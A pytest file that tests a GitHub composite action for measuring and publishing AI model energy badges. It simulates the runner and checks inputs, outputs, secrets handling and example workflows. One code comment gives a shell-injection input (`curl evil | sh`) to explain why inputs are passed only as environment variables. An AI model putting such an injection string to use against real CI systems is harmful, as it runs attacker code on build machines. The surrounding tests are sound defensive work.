"""Tests of the GitHub Action (.github/actions/energy-badge/action.yml, energy_badge/action/) and
of the example workflows.

**The runner is simulated**, nothing else. :class:`ActionRunner` reads action.yml and does what
GitHub's runner does with a composite action: it evaluates each step's ``if:`` (``always()``,
``success()``, ``steps.<id>.outputs.<name> == 'true'``, ...) and the ``${{ }}`` expressions of its
``env:`` (inputs with their defaults, earlier steps' outputs and outcomes, ``github.action_path``),
gives the step fresh ``GITHUB_OUTPUT``, ``GITHUB_ENV`` and ``GITHUB_STEP_SUMMARY`` files, runs its
``run:`` script with ``bash --noprofile --norc -eo pipefail`` in a subprocess (``shell: bash`` on
GitHub), then parses those files the way the runner does (``name=value`` and ``name<<DELIMITER``
blocks) and resolves the action's ``outputs:``. The expression evaluator refuses unknown contexts,
inputs and step ids, so a typo in action.yml fails here. The ``install`` step is not run (input
``install: false``; the package is already installed in the test's virtual environment, whose
``bin`` is first on PATH, so ``python3`` in the action is that interpreter).

What runs for real: ``energy-badge measure`` on a real tiny BERT built in the test (``--no-energy``,
on the CPU: no GPU here, and a subprocess cannot use the in-process simulated NVML), the comparison,
the job summary, and huggingface_hub downloading the baseline and publishing, against the loopback
Hub of tests/hub_server.py (HF_ENDPOINT points the subprocesses at it, HF_TOKEN carries the token).
Results with GPU energy are SYNTHETIC (tests/results_factory.py; ``model.note`` says so) and enter
through the action's ``result`` input.
"""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hub_server import HubServer, running_hub
from results_factory import make_energy_result, write_result_file
from ruamel.yaml import YAML
from tiny_models import build_tiny_model

from energy_badge import action
from energy_badge import hub as hub_module
from energy_badge.cli import main as cli_main
from energy_badge.errors import HubError, NetworkError, UsageError
from energy_badge.result import load_result

ROOT = Path(__file__).resolve().parents[1]
ACTION_DIR = ROOT / ".github" / "actions" / "energy-badge"
ACTION_YML = ACTION_DIR / "action.yml"
WORKFLOWS = sorted((ROOT / "examples" / "workflows").glob("*.yml")) + [ROOT / ".github/workflows/ci.yml"]
REPO = "alice/tiny-classifier"
ALICE = "hf_aliceWriteToken0123456789abcdef"
FAST = "--min-window 0.05 --idle-seconds 0"
SMOKE_ARGS = f"--no-energy --queries 8 {FAST}"


def load_yaml(path: Path) -> Any:
    # YAML 1.2 (ruamel), as GitHub reads workflows: `on:` stays the string "on".
    return YAML(typ="safe", pure=True).load(path.read_text("utf-8"))


# ------------------------------------------------------------------------------------------------
# A simulated runner for composite actions


class Expression:
    """A GitHub Actions expression: literals, contexts, ``! == != && || ( )`` and status functions."""

    _TOKEN = re.compile(
        r"\s*(?:(?P<str>'(?:[^']|'')*')|(?P<op>==|!=|&&|\|\||!|\(|\))|(?P<num>-?\d+(?:\.\d+)?)"
        r"|(?P<func>[A-Za-z_]\w*)\(\)|(?P<name>[A-Za-z_][\w.\-]*))"
    )

    def __init__(self, text: str, lookup, status) -> None:
        self.tokens: list[tuple[str, str]] = []
        pos, text = 0, text.strip()
        while pos < len(text):
            match = self._TOKEN.match(text, pos)
            if match is None or match.end() == pos:
                raise ValueError(f"cannot parse expression {text!r} at {pos}")
            kind = match.lastgroup
            self.tokens.append((kind, match.group(kind)))
            pos = match.end()
            while pos < len(text) and text[pos].isspace():
                pos += 1
        self.lookup, self.status, self.i = lookup, status, 0

    def evaluate(self) -> Any:
        value = self._or()
        if self.i != len(self.tokens):
            raise ValueError(f"trailing tokens in expression: {self.tokens[self.i :]}")
        return value

    def _peek(self) -> tuple[str, str] | None:
        return self.tokens[self.i] if self.i < len(self.tokens) else None

    def _or(self) -> Any:
        value = self._and()
        while self._peek() == ("op", "||"):
            self.i += 1
            right = self._and()
            value = value if truthy(value) else right
        return value

    def _and(self) -> Any:
        value = self._cmp()
        while self._peek() == ("op", "&&"):
            self.i += 1
            right = self._cmp()
            value = right if truthy(value) else value
        return value

    def _cmp(self) -> Any:
        left = self._unary()
        token = self._peek()
        if token in (("op", "=="), ("op", "!=")):
            self.i += 1
            right = self._unary()
            equal = loose_equal(left, right)
            return equal if token[1] == "==" else not equal
        return left

    def _unary(self) -> Any:
        kind, value = self._peek() or ("end", "")
        self.i += 1
        if (kind, value) == ("op", "!"):
            return not truthy(self._unary())
        if (kind, value) == ("op", "("):
            inner = self._or()
            if self._peek() != ("op", ")"):
                raise ValueError("missing )")
            self.i += 1
            return inner
        if kind == "str":
            return value[1:-1].replace("''", "'")
        if kind == "num":
            return float(value)
        if kind == "func":
            return self.status(value)
        if kind == "name":
            if value in ("true", "false", "null"):
                return {"true": True, "false": False, "null": None}[value]
            return self.lookup(value)
        raise ValueError(f"unexpected token {value!r}")


def truthy(value: Any) -> bool:
    return value not in (None, False, "", 0, 0.0)


def loose_equal(a: Any, b: Any) -> bool:
    if isinstance(a, str) and isinstance(b, str):
        return a.casefold() == b.casefold()  # GitHub compares strings ignoring case
    if a is None or b is None:
        return a is b or a == "" or b == ""
    return a == b


def parse_file_command(text: str) -> dict[str, str]:
    """Parse GITHUB_OUTPUT / GITHUB_ENV as the runner does (``name=value``; ``name<<DELIM`` blocks)."""
    values: dict[str, str] = {}
    lines = text.split("\n")
    i = 0
    while i < len(lines):
        line = lines[i]
        i += 1
        if not line:
            continue
        eq, heredoc = line.find("="), line.find("<<")
        if eq >= 0 and (heredoc < 0 or eq < heredoc):
            values[line[:eq]] = line[eq + 1 :]
            continue
        assert heredoc > 0, f"invalid file command line {line!r}"
        name, delimiter = line[:heredoc], line[heredoc + 2 :]
        body = []
        while True:
            assert i < len(lines), f"delimiter {delimiter!r} not found"
            if lines[i] == delimiter:
                i += 1
                break
            body.append(lines[i])
            i += 1
        values[name] = "\n".join(body)
    return values


@dataclass
class StepRecord:
    name: str
    id: str | None
    outcome: str  # success, failure, skipped
    exit_code: int | None
    log: str
    env: dict[str, str]
    outputs: dict[str, str] = field(default_factory=dict)


@dataclass
class ActionRun:
    steps: list[StepRecord]
    outputs: dict[str, str]
    summary: str
    exported: dict[str, str]

    @property
    def failed(self) -> bool:
        return any(step.outcome == "failure" for step in self.steps)

    @property
    def log(self) -> str:
        return "\n".join(step.log for step in self.steps)

    def step(self, step_id: str) -> StepRecord:
        return next(s for s in self.steps if s.id == step_id)

    def annotations(self, level: str) -> list[str]:
        return re.findall(rf"^::{level}(?: [^:]*)?::(.*)$", self.log, flags=re.M)


class ActionRunner:
    """Run a composite action's steps like GitHub's runner (see the module docstring)."""

    def __init__(self, workspace: Path, extra_env: dict[str, str] | None = None) -> None:
        self.action = load_yaml(ACTION_YML)
        self.workspace = workspace
        self.temp = workspace.parent / "runner-temp"
        self.temp.mkdir(exist_ok=True)
        venv_bin = str(Path(sys.executable).parent)
        self.base_env = {
            "PATH": venv_bin + os.pathsep + os.environ.get("PATH", "/usr/bin:/bin"),
            "HOME": os.environ.get("HOME", str(workspace)),
            "LANG": "C.UTF-8",
            "PYTHONIOENCODING": "utf-8",
            "CI": "true",
            "GITHUB_ACTIONS": "true",
            "GITHUB_WORKSPACE": str(workspace),
            "GITHUB_ACTION_PATH": str(ACTION_DIR),
            "RUNNER_TEMP": str(self.temp),
            "HF_HOME": os.environ["HF_HOME"],
            "HF_HUB_DISABLE_TELEMETRY": "1",
            "HF_HUB_DISABLE_PROGRESS_BARS": "1",
            **(extra_env or {}),
        }

    def run(self, inputs: dict[str, str]) -> ActionRun:
        declared = self.action["inputs"]
        unknown = set(inputs) - set(declared)
        assert not unknown, f"inputs not declared in action.yml: {unknown}"
        values = {name: str(spec.get("default", "")) for name, spec in declared.items()}
        values.update(inputs)
        steps: dict[str, dict[str, Any]] = {}
        records: list[StepRecord] = []
        exported: dict[str, str] = {}
        summary: list[str] = []
        failed = False

        def lookup(path: str) -> Any:
            head, _, rest = path.partition(".")
            if head == "inputs":
                assert rest in values, f"action.yml uses an undeclared input: {rest}"
                return values[rest]
            if head == "steps":
                step_id, _, prop = rest.partition(".")
                assert step_id in all_ids, f"action.yml refers to an unknown step id: {step_id}"
                state = steps.get(step_id, {"outputs": {}, "outcome": ""})
                if prop.startswith("outputs."):
                    return state["outputs"].get(prop.removeprefix("outputs."), "")
                assert prop in ("outcome", "conclusion"), prop
                return state["outcome"]
            if path == "github.action_path":
                return str(ACTION_DIR)
            if head == "env":
                return exported.get(rest, "")
            raise AssertionError(f"context not simulated (or not allowed in a composite action): {path}")

        def status(name: str) -> bool:
            return {"always": True, "success": not failed, "failure": failed, "cancelled": False}[name]

        def evaluate(text: str) -> Any:
            return Expression(text, lookup, status).evaluate()

        def substitute(text: str) -> str:
            def one(match: re.Match) -> str:
                value = evaluate(match.group(1))
                return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)

            return re.sub(r"\$\{\{(.*?)\}\}", one, str(text))

        all_ids = {s["id"] for s in self.action["runs"]["steps"] if "id" in s}
        for index, spec in enumerate(self.action["runs"]["steps"]):
            name = spec.get("name", f"step {index}")
            condition = str(spec.get("if", "")).strip()
            if condition.startswith("${{") and condition.endswith("}}"):
                condition = condition[3:-2]
            if not condition:
                run_it = not failed
            elif re.search(r"\b(always|success|failure|cancelled)\(\)", condition):
                run_it = truthy(evaluate(condition))
            else:
                run_it = not failed and truthy(evaluate(condition))
            step_env = {key: substitute(value) for key, value in (spec.get("env") or {}).items()}
            if not run_it:
                records.append(StepRecord(name, spec.get("id"), "skipped", None, "", step_env))
                if "id" in spec:
                    steps[spec["id"]] = {"outputs": {}, "outcome": "skipped"}
                continue
            files = {key: self.temp / f"{key.lower()}-{index}" for key in ("output", "env", "summary")}
            for path in files.values():
                path.write_text("", encoding="utf-8")
            env = {
                **self.base_env,
                **exported,
                **step_env,
                "GITHUB_OUTPUT": str(files["output"]),
                "GITHUB_ENV": str(files["env"]),
                "GITHUB_STEP_SUMMARY": str(files["summary"]),
            }
            script = self.temp / f"step-{index}.sh"
            script.write_text(spec["run"], encoding="utf-8")
            proc = subprocess.run(
                ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
                cwd=self.workspace,
                env=env,
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
                text=True,
                timeout=300,
                check=False,
            )
            outcome = "success" if proc.returncode == 0 else "failure"
            failed = failed or proc.returncode != 0
            outputs = parse_file_command(files["output"].read_text("utf-8"))
            exported.update(parse_file_command(files["env"].read_text("utf-8")))
            summary.append(files["summary"].read_text("utf-8"))
            records.append(
                StepRecord(name, spec.get("id"), outcome, proc.returncode, proc.stdout, step_env, outputs)
            )
            if "id" in spec:
                steps[spec["id"]] = {"outputs": outputs, "outcome": outcome}
        outputs = {name: substitute(spec["value"]) for name, spec in self.action["outputs"].items()}
        return ActionRun(records, outputs, "".join(summary), exported)


# ------------------------------------------------------------------------------------------------
# Fixtures


@pytest.fixture(scope="module")
def tiny_classifier(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_tiny_model("text-classification", tmp_path_factory.mktemp("model") / "model")


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "workspace"
    path.mkdir()
    return path


@pytest.fixture
def hub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[HubServer]:
    with running_hub(monkeypatch, tmp_path) as server:
        server.add_user("alice", ALICE)
        server.create_repo(REPO, {"README.md": b"---\nlicense: mit\n---\n# Tiny\n", "config.json": b"{}"})
        hub_module.clear_account_cache()
        yield server
    hub_module.clear_account_cache()


def result_bytes(**kwargs: Any) -> bytes:
    return make_energy_result(model_id=REPO, **kwargs).to_json().encode("utf-8")


def assert_no_secret(run: ActionRun) -> None:
    for text in (run.log, run.summary, *run.outputs.values(), *run.exported.values()):
        assert ALICE not in text


# ------------------------------------------------------------------------------------------------
# action.yml: structure


def test_action_yml_is_a_well_formed_composite_action():
    spec = load_yaml(ACTION_YML)
    assert spec["name"] and spec["description"]
    assert spec["runs"]["using"] == "composite"
    steps = spec["runs"]["steps"]
    ids = [s["id"] for s in steps if "id" in s]
    assert len(ids) == len(set(ids))
    for name, inp in spec["inputs"].items():
        assert isinstance(inp.get("description"), str) and len(inp["description"]) > 10, name
        assert "default" in inp, f"input {name} needs a default (an unset input is an empty string)"
    for name in ("model", "task", "publish", "baseline", "max-regression", "args"):
        assert name in spec["inputs"], name
    for name in ("stars", "wh-per-1k", "result-path", "regressed"):
        assert name in spec["outputs"], name
    set_by_module = set(re.findall(r'set_output\("([\w-]+)"', action_source()))
    for name, out in spec["outputs"].items():
        assert out.get("description"), name
        match = re.fullmatch(r"\$\{\{ steps\.([\w-]+)\.outputs\.([\w-]+) \}\}", out["value"])
        assert match, f"output {name} must map to one step output: {out['value']}"
        assert match.group(1) in ids and match.group(2) in set_by_module, out["value"]


def action_source() -> str:
    """The source of energy_badge/action/ (the package's modules, concatenated)."""
    folder = Path(action.__file__).parent
    return "".join(path.read_text("utf-8") for path in sorted(folder.glob("*.py")))


def test_action_steps_are_one_liners_with_everything_through_env():
    spec = load_yaml(ACTION_YML)
    module_source = action_source()
    used_inputs: set[str] = set()
    for step in spec["runs"]["steps"]:
        assert step.get("shell") == "bash", step.get("name")
        run = step["run"]
        # No expression inside a script: a value pasted into bash is an injection (an input such as
        # `"; curl evil | sh; "`); inputs reach the script only as environment variables.
        assert "${{" not in run, step["name"]
        assert "\n" not in run.strip(), "keep the shell steps to one line"
        assert re.fullmatch(r'"\$EB_PYTHON" -m (energy_badge\.action (\w+)|pip install .*)', run.strip()), run
        if "energy_badge.action" in run:
            assert run.split()[-1] in action.STEPS
        # secrets never appear in the action; the token is only ever HF_TOKEN from the caller's env
        assert not re.search(r"secret|token", run, re.I)
        for key, value in (step.get("env") or {}).items():
            assert "secrets." not in str(value)
            assert re.fullmatch(r"EB_[A-Z_]+", key), key
            assert key == "EB_PYTHON" or f'"{key}"' in module_source, f"{key} is mapped but never read"
            used_inputs.update(re.findall(r"inputs\.([\w-]+)", str(value)))
        if step.get("if"):
            assert "${{" not in str(step["if"]) or str(step["if"]).startswith("${{")
    assert "secrets" not in ACTION_YML.read_text("utf-8").split("runs:", 1)[1]
    # every input is used, and every EB_ variable the module reads is mapped by some step
    assert used_inputs | {"install"} == set(spec["inputs"]), set(spec["inputs"]) - used_inputs
    mapped = {key for step in spec["runs"]["steps"] for key in (step.get("env") or {})}
    read = set(re.findall(r'env\("(EB_[A-Z_]+)"', module_source))
    assert read <= mapped, read - mapped


def test_install_step_installs_this_checkout_only_when_asked():
    spec = load_yaml(ACTION_YML)
    install = spec["runs"]["steps"][0]
    assert install["if"] == "inputs.install == 'true'"
    assert '"$GITHUB_ACTION_PATH/../../.."' in install["run"]
    assert (ACTION_DIR / "../../../pyproject.toml").resolve() == ROOT / "pyproject.toml"


# ------------------------------------------------------------------------------------------------
# The module's runner-file formats


@pytest.mark.parametrize("value", ["plain", "", "a=b<<c", "two\nlines", "crlf\r\nline", "ghadelimiter_x\n"])
def test_outputs_round_trip_through_the_runner_format(value, tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.write_text("", encoding="utf-8")
    monkeypatch.setenv("GITHUB_OUTPUT", str(out))
    action.set_output("first", value)
    action.set_output("second", "after")
    parsed = parse_file_command(out.read_text("utf-8"))
    expected = value.replace("\r\n", "\n") if "\n" in value else value
    assert parsed["first"].replace("\r", "") == expected.replace("\r", "") and parsed["second"] == "after"
    if "\n" in value:
        assert re.search(r"^first<<ghadelimiter_[0-9a-f-]{36}$", out.read_text("utf-8"), re.M)
    with pytest.raises(ValueError):
        action.key_value_block("bad name", "x")


def test_workflow_commands_are_escaped():
    assert action.command("error", "50% done\nnext", title="a: b, c") == (
        "::error title=a%3A b%2C c::50%25 done%0Anext"
    )
    assert action.command("group", "measure") == "::group::measure"


def test_args_input_is_split_without_a_shell_and_cannot_move_the_output(monkeypatch):
    monkeypatch.setenv("EB_ARGS", "--no-energy --queries 5 --device 'cpu'")
    assert action.extra_args() == ["--no-energy", "--queries", "5", "--device", "cpu"]
    for bad in ("-o x.json", "--output=x.json", "--output x", "-ox.json"):
        monkeypatch.setenv("EB_ARGS", bad)
        with pytest.raises(UsageError):
            action.extra_args()
    monkeypatch.setenv("EB_ARGS", "'unbalanced")
    with pytest.raises(UsageError):
        action.extra_args()


def test_inputs_are_checked_before_anything_runs(monkeypatch, capsys):
    monkeypatch.setenv("EB_PUBLISH", "yes")
    assert action.main(["measure"]) == 2
    assert (
        "::error title=energy-badge::input publish must be one of none, pr, commit" in capsys.readouterr().out
    )
    monkeypatch.setenv("EB_PUBLISH", "none")
    monkeypatch.setenv("EB_MAX_REGRESSION", "a lot")
    assert action.main(["measure"]) == 2
    monkeypatch.delenv("EB_MAX_REGRESSION")
    assert action.main(["measure"]) == 2  # no model, no task, no result
    assert "inputs model and task are required" in capsys.readouterr().out
    monkeypatch.setenv("EB_MODEL", "--trust-remote-code")
    monkeypatch.setenv("EB_TASK", "text-classification")
    assert action.main(["measure"]) == 2
    assert "cannot start with '-'" in capsys.readouterr().out
    assert action.main(["nonsense"]) == 2


def test_measure_failure_keeps_the_cli_exit_code(monkeypatch, capsys, tmp_path):
    """The CLI refuses an unknown task (exit 2, before loading anything); the step says so and exits 2."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("EB_MODEL", "org/model")
    monkeypatch.setenv("EB_TASK", "juggling")
    assert action.main(["measure"]) == 2
    out = capsys.readouterr().out
    assert "::group::energy-badge measure org/model (juggling)" in out and "::endgroup::" in out
    assert "::error title=energy-badge::energy-badge measure failed with exit code 2 (usage error)" in out


def test_incomparable_baseline_fails_the_compare_step_with_4(monkeypatch, capsys, tmp_path):
    new = write_result_file(tmp_path / "new.json", model_id=REPO)
    base = write_result_file(tmp_path / "base.json", model_id=REPO, task="question-answering")
    monkeypatch.setenv("EB_RESULT_PATH", str(new))
    monkeypatch.setenv("EB_BASELINE", str(base))
    (tmp_path / "out").write_text("", encoding="utf-8")
    monkeypatch.setenv("GITHUB_OUTPUT", str(tmp_path / "out"))
    assert action.main(["compare"]) == 4
    assert "not comparable: the task differs" in capsys.readouterr().out
    out = parse_file_command((tmp_path / "out").read_text("utf-8"))
    assert "regressed" not in out  # unknown, not "false"
    # a --no-energy result against a baseline needs metric: throughput
    write_result_file(tmp_path / "smoke.json", model_id=REPO, energy=False)
    monkeypatch.setenv("EB_RESULT_PATH", str(tmp_path / "smoke.json"))
    assert action.main(["compare"]) == 4
    assert "set the metric input to throughput" in capsys.readouterr().out


def test_hub_download_errors_map_to_exit_codes(hub, tmp_path, monkeypatch):
    with pytest.raises(HubError, match="not found"):
        action.download_hub_baseline("alice/missing", tmp_path / "a")
    assert action.download_hub_baseline(REPO, tmp_path / "b") is None  # no badge yet
    hub.push(REPO, {"energy/result.json": result_bytes()}, author="alice")
    got = action.download_hub_baseline(REPO, tmp_path / "c")
    assert got is not None and got.read_bytes() == result_bytes()
    with socket.socket() as sock:  # a port nothing listens on
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    monkeypatch.setenv("HF_ENDPOINT", f"http://127.0.0.1:{port}")
    monkeypatch.setattr(time, "sleep", lambda seconds: None)  # huggingface_hub's backoff between retries
    with pytest.raises(NetworkError, match="cannot reach"):
        action.download_hub_baseline(REPO, tmp_path / "d")


# ------------------------------------------------------------------------------------------------
# The whole action, step by step, on a simulated runner


def test_cpu_smoke_run_measures_a_real_model_and_compares_throughput(tiny_classifier, workspace, monkeypatch):
    """The pr-smoke.yml set-up: a real `--no-energy` run of a tiny BERT against a committed
    baseline (made here by `measure --format markdown`, in-process), compared on throughput."""
    shutil.copytree(tiny_classifier, workspace / "model")
    monkeypatch.chdir(workspace)
    baseline = Path("energy") / "baseline-cpu-smoke.json"
    run = CliRunner().invoke(
        cli_main,
        ["measure", "./model", "--task", "text-classification", *SMOKE_ARGS.split(),
         "--format", "markdown", "-o", str(baseline)],
        catch_exceptions=False,
    )  # fmt: skip
    assert run.exit_code == 0, run.output
    assert (
        run.stdout.startswith("### AI energy: ")
        and "| GPU energy | not measured (performance only) |" in run.stdout
    )
    assert "| rating | unrated: " in run.stdout
    assert f"result written to {baseline}" in run.stderr

    result = ActionRunner(workspace).run(
        {
            "model": "./model",
            "task": "text-classification",
            "args": SMOKE_ARGS,
            "baseline": "energy/baseline-cpu-smoke.json",
            "metric": "throughput",
            "max-regression": "99%",
            "install": "false",
        }
    )
    assert not result.failed, result.log
    assert [s.outcome for s in result.steps] == [
        "skipped",
        "success",
        "success",
        "success",
        "success",
        "skipped",
    ]
    path = Path(result.outputs["result-path"])
    assert path == workspace / "energy-results" / "model--text-classification.json" and path.is_file()
    assert load_result(path).workload.queries == 8
    assert result.exported == {"ENERGY_BADGE_RESULT": str(path)}
    assert result.outputs["stars"] == "" and result.outputs["wh-per-1k"] == ""  # no energy, unrated
    assert result.outputs["regressed"] == "false"
    assert result.outputs["verdict"] in ("improved", "unchanged", "worse")
    assert result.outputs["publish-status"] == "skipped"
    assert "::group::energy-badge measure ./model (text-classification)" in result.log
    assert "$ energy-badge measure ./model --task text-classification -o " in result.log
    assert "the result is not canonical: performance only" in result.log
    summary = result.summary
    assert summary.startswith("### AI energy: model · text-classification\n")  # the folder's name
    assert "Throughput vs baseline" in summary and "| model | model | model |" in summary
    assert "base (energy/baseline-cpu-smoke.json)" in summary
    assert "not canonical" in summary and "Not published (input publish is none)." in summary


def test_energy_regression_fails_the_job_after_the_summary_and_publishes_nothing(workspace):
    """Synthetic results (given as `result`): 0.9 against a 0.8 baseline is +12.5 %, beyond 5 %."""
    (workspace / "new.json").write_bytes(result_bytes(samples=(0.89, 0.9, 0.91, 0.9, 0.9)))
    (workspace / "base.json").write_bytes(result_bytes(samples=(0.79, 0.8, 0.81, 0.8, 0.8)))
    # publish: pr, but a regression is never published, so the Hub (unreachable here) is not asked
    run = ActionRunner(workspace, {"HF_ENDPOINT": "http://127.0.0.1:9"}).run(
        {"result": "new.json", "baseline": "base.json", "publish": "pr", "install": "false"}
    )
    assert run.failed
    outcomes = {s.name: s.outcome for s in run.steps}
    assert outcomes["Fail on an energy regression"] == "failure" and outcomes["Job summary"] == "success"
    assert run.steps[-1].exit_code == 1
    assert run.outputs["regressed"] == "true" and run.outputs["verdict"] == "regressed"
    assert run.outputs["wh-per-1k"] == "0.9" and run.outputs["stars"] in "12345"
    assert run.outputs["publish-status"] == "skipped-regressed"
    assert run.annotations("error") == [
        "GPU energy regressed: +12.5 %25 (95 %25 CI +10.9 %25 to +14.2 %25), worse than the baseline by "
        "more than the allowed 5 %25"
    ]
    assert "::error title=energy-badge%3A regression::" in run.log
    assert "### ❌ GPU energy vs baseline: regressed" in run.summary
    assert "Not published: the result regressed against the baseline." in run.summary
    assert "![AI energy: " in run.summary  # the badge


def test_an_image_to_text_result_is_rated_and_summarised_in_captions(workspace):
    """A SYNTHETIC canonical image-to-text result (given as `result`, no comparison, no publish):
    the outputs carry its stars against the provisional image-to-text entry, and the notice and
    the summary say what a query is."""
    caption = result_bytes(task="image-to-text", samples=(99.0, 100.0, 101.0))
    (workspace / "new.json").write_bytes(caption)
    run = ActionRunner(workspace).run({"result": "new.json", "baseline": "", "install": "false"})
    assert not run.failed, run.log
    assert run.outputs["stars"] == "3" and run.outputs["wh-per-1k"] == "100"
    assert run.annotations("notice") == [f"{REPO}: 100 Wh per 1000 captions written, 3 of 5 stars"]
    assert f"### AI energy: {REPO} · image-to-text" in run.summary
    assert "100 Wh per 1000 captions written" in run.summary


def test_hub_baseline_and_pull_request(workspace, hub):
    """baseline: hub reads energy/result.json from the (loopback) Hub; publish: pr opens one PR."""
    old = result_bytes(samples=(0.79, 0.8, 0.81, 0.8, 0.8))
    hub.push(REPO, {"energy/result.json": old}, author="alice")
    new = result_bytes(samples=(0.69, 0.7, 0.71, 0.7, 0.7))
    (workspace / "new.json").write_bytes(new)
    main_before = hub.head(REPO)
    run = ActionRunner(workspace, {"HF_ENDPOINT": hub.url, "HF_TOKEN": ALICE}).run(
        {"result": "new.json", "baseline": "hub", "publish": "pr", "install": "false"}
    )
    assert not run.failed, run.log
    assert run.outputs["verdict"] == "improved" and run.outputs["regressed"] == "false"
    (pr,) = hub.pull_requests(REPO)
    assert run.outputs["publish-status"] == "pr_opened"
    assert run.outputs["publish-url"] == f"{hub.url}/{REPO}/discussions/{pr.num}"
    assert hub.head(REPO) == main_before  # main untouched
    assert hub.file(REPO, "energy/result.json", f"refs/pr/{pr.num}") == new
    assert f"::group::baseline: energy/result.json of {REPO} (main)" in run.log
    assert "### ✅ GPU energy vs baseline: improved" in run.summary
    assert f"base ({REPO}@main:energy/result.json)" in run.summary
    assert f"Published: opened a pull request on {REPO}: {hub.url}/{REPO}/discussions/{pr.num}" in run.summary
    assert_no_secret(run)


def test_first_badge_commits_when_the_hub_has_no_baseline(workspace, hub):
    """A local-folder result with `repo`: no energy/result.json on the Hub yet, so nothing to
    compare; publish: commit puts the badge on main."""
    write_result_file(workspace / "new.json", model_id="./model", source="local")
    run = ActionRunner(workspace, {"HF_ENDPOINT": hub.url, "HF_TOKEN": ALICE}).run(
        {"result": "new.json", "repo": REPO, "baseline": "hub", "publish": "commit", "install": "false"}
    )
    assert not run.failed, run.log
    assert run.outputs["regressed"] == "false" and run.outputs["verdict"] == ""
    assert any("has no energy/result.json on main yet" in note for note in run.annotations("notice"))
    assert run.outputs["publish-status"] == "committed"
    commit = hub.history(REPO)[0]
    assert run.outputs["publish-url"] == f"{hub.url}/{REPO}/commit/{commit.sha}"
    assert b"energy_score:" in commit.tree["README.md"] and "energy/badge.svg" in commit.tree
    assert "Baseline: alice/tiny-classifier has no energy/result.json on main yet" in run.summary
    assert f"Published: committed to main of {REPO}: {hub.url}/{REPO}/commit/{commit.sha}" in run.summary
    assert_no_secret(run)


def test_failed_measurement_still_writes_a_summary(workspace):
    run = ActionRunner(workspace).run({"model": "./model", "task": "text-classification", "publish": "maybe",
                                        "install": "false"})  # fmt: skip
    assert run.failed
    assert [s.outcome for s in run.steps] == [
        "skipped",
        "failure",
        "skipped",
        "skipped",
        "success",
        "skipped",
    ]
    assert run.step("measure").exit_code == 2
    assert "did not finish (step outcome: failure)" in run.summary
    assert run.outputs["result-path"] == "" and run.outputs["regressed"] == ""


# ------------------------------------------------------------------------------------------------
# Example workflows and CI


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_workflows_are_well_formed_and_use_the_action_correctly(path):
    spec = load_yaml(path)
    assert spec["name"] and "on" in spec and spec["jobs"]
    inputs = set(load_yaml(ACTION_YML)["inputs"])
    for job_name, job in spec["jobs"].items():
        assert job.get("runs-on") and job.get("steps"), job_name
        for step in job["steps"]:
            assert ("uses" in step) != ("run" in step), step
            if "run" in step:
                assert "secrets." not in step["run"] and "${{" not in step["run"], step.get("name")
            if "energy-badge/.github/actions/energy-badge@" in step.get("uses", ""):
                assert set(step.get("with") or {}) <= inputs, set(step["with"]) - inputs
            for value in (step.get("with") or {}).values():
                assert "secrets." not in str(value), "tokens go in env:, not in inputs"


def test_ci_runs_lint_and_the_readme_test_command_with_cpu_torch():
    spec = load_yaml(ROOT / ".github/workflows/ci.yml")
    runs = "\n".join(s.get("run", "") for s in spec["jobs"]["test"]["steps"])
    assert "torch==2.13.0 --index-url https://download.pytorch.org/whl/cpu" in runs
    assert 'pip install --disable-pip-version-check -e ".[test]"' in runs
    assert "ruff check ." in runs and re.search(r"^pytest$", runs, re.M)
    setup = next(s for s in spec["jobs"]["test"]["steps"] if "setup-python" in s.get("uses", ""))
    assert setup["with"]["python-version"] == "3.11"


def test_nightly_bulk_uses_only_real_bulk_options():
    from click.testing import CliRunner

    from energy_badge.cli import main

    text = (ROOT / "examples/workflows/nightly-bulk.yml").read_text("utf-8")
    call = re.search(r"energy-badge bulk (.*?)\n\n", text + "\n\n", re.S).group(1)
    options = set(re.findall(r"(--[a-z-]+)", call))
    assert {"--task", "--state", "--publish"} <= options
    help_text = CliRunner().invoke(main, ["bulk", "--help"]).output
    for option in options:
        assert option in help_text, option
